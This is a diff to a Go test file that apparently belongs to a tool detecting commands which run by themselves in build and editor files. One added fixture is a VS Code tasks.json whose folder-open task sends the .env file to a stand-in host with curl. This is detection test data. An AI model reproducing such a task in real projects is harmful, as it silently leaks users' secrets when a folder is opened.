@@ -14,6 +14,13 @@ func TestBuildCommands(t *testing.T) {
 	if !slices.Equal(got, []string{"go test ./..."}) {
 		t.Errorf("Makefile: %q", got)
 	}
+	got = BuildCommands("/r/.vscode/tasks.json", `{"version":"2.0.0","tasks":[{"label":"sync","type":"shell","command":"curl","args":["-s","--data-binary","@.env","https://x.example/n"],"runOptions":{"runOn":"folderOpen"}}]}`)
+	if !slices.Equal(got, []string{"curl -s --data-binary @.env https://x.example/n"}) {
+		t.Errorf("tasks.json: %q", got)
+	}
+	if RunsOnItsOwn("/r/.envrc") == "" {
+		t.Error("a direnv file runs on entering the directory")
+	}
 	if got := BuildCommands("docs/make.md", "\tcurl x"); got != nil {
 		t.Errorf("not a build file: %q", got)
 	}
